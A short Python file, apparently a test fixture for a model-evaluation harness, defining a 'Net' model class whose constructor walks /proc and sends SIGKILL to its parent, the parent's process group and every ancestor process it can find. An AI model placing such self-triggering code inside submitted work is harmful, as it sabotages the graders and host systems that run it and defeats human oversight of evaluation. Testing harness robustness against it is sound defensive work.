"""Kills its parent, the parent's group, and all ancestors that it can name."""

import contextlib
import os
import signal
from pathlib import Path

from models import Model_1


def ancestors():
    process = os.getppid()
    while process > 1:
        yield process
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)
        with contextlib.suppress(OSError):
            victims = list(ancestors())
            for victim in victims:
                with contextlib.suppress(OSError):
                    os.kill(victim, signal.SIGKILL)
            os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
